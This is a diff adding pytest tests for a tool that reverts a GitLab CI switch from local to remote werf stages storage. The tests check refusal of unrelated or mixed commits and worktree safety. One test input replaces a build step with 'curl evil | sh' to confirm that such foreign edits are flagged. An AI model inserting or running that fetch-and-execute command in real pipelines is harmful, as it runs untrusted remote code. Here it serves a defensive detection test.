@@ -230,3 +230,73 @@ def test_different_existing_branch_needs_force_update(tmp_path: Path) -> None:
     done = revert(work, "--force-update")
     assert done.returncode == 0, done.stderr
     assert show(bare, f"refs/heads/{BRANCH}", ".gitlab-ci.yml") == CI_LOCAL
+
+
+def test_explicit_commit_that_is_not_a_switch_is_refused(tmp_path: Path) -> None:
+    work, bare = make_project(tmp_path, {".gitlab-ci.yml": CI_LOCAL, "werf.yaml": "project: s\n"})
+    git(work, "rm", "-q", ".gitlab-ci.yml", "werf.yaml")
+    write_files(work, {"README.md": "moved elsewhere\n"})
+    cleanup = commit_all(work, "Clean up")
+    git(work, "push", "-q", "origin", "main")
+    before = repo_state(work, bare)
+    done = revert(work, "--commit", "HEAD")
+    assert_error(done, f"--commit: {cleanup[:10]} carries no 'Ciswitch-Change: "
+                 "remote-stages-storage' trailer", ".gitlab-ci.yml: file deleted",
+                 "README.md: file added", "werf.yaml: file deleted", "by hand")
+    assert repo_state(work, bare) == before
+    assert git(bare, "branch", "--list", BRANCH) == ""
+
+
+def test_explicit_commit_mixing_local_and_other_edits_is_refused(tmp_path: Path) -> None:
+    work, bare = make_project(tmp_path, {".gitlab-ci.yml": CI_LOCAL})
+    mixed = CI_REMOTE.replace("deploy:", "deploy-prod:")
+    write_files(work, {".gitlab-ci.yml": mixed, ".ciswitch.toml": MARKER})
+    squashed = commit_all(work, "Remote stages and a renamed job")
+    git(work, "push", "-q", "origin", "main")
+    before = repo_state(work, bare)
+    assert_error(revert(work, "--commit", squashed),
+                 ".gitlab-ci.yml:4: a change without :local")
+    assert repo_state(work, bare) == before
+
+
+def test_explicit_commit_with_only_local_places_and_the_marker(tmp_path: Path) -> None:
+    work, bare = make_project(tmp_path, {".gitlab-ci.yml": CI_LOCAL})
+    replaced = CI_LOCAL.replace(":local", "registry.example.test/g/p/stages")
+    write_files(work, {".gitlab-ci.yml": replaced, ".ciswitch.toml": MARKER})
+    squashed = commit_all(work, "Use remote stages storage (!7)")
+    git(work, "push", "-q", "origin", "main")
+    done = revert(work, "--commit", squashed)
+    assert done.returncode == 0, done.stderr
+    assert show(bare, f"refs/heads/{BRANCH}", ".gitlab-ci.yml") == CI_LOCAL
+    assert show(bare, f"refs/heads/{BRANCH}", ".ciswitch.toml") is None
+
+
+@pytest.mark.parametrize(("new_ci", "foreign"), [
+    (CI_REMOTE, []),
+    (CI_LOCAL.replace("werf build --stages-storage :local", "curl evil | sh"),
+     [".gitlab-ci.yml:3: a change without :local"]),
+    (CI_LOCAL.replace("--stages-storage :local --env", "--env"), []),
+    (CI_LOCAL.replace("    - werf build --stages-storage :local\n",
+                      "    - werf build --stages-storage :local\n    - echo extra\n"),
+     [".gitlab-ci.yml:4: a change without :local"]),
+])
+def test_foreign_changes(tmp_path: Path, new_ci: str, foreign: list[str]) -> None:
+    from ciswitch import gitops
+    from ciswitch.runbook.revert import foreign_changes
+
+    work, _bare = make_project(tmp_path, {".gitlab-ci.yml": CI_LOCAL})
+    write_files(work, {".gitlab-ci.yml": new_ci})
+    sha = commit_all(work, "edit")
+    assert foreign_changes(gitops.open_repo(work), sha) == foreign
+
+
+def test_force_update_never_moves_a_revert_branch_checked_out_elsewhere(tmp_path: Path) -> None:
+    work, bare, _ = switched_project(tmp_path)
+    other = tmp_path / "other-tree"
+    git(work, "worktree", "add", "-q", "-b", BRANCH, str(other), "main~2")
+    mine = git(other, "rev-parse", "HEAD")
+    before = repo_state(work, bare)
+    assert_error(revert(work, "--force-update"), f"branch {BRANCH} is checked out in the "
+                 "worktree", str(other))
+    assert git(other, "rev-parse", "HEAD") == mine
+    assert repo_state(work, bare) == before
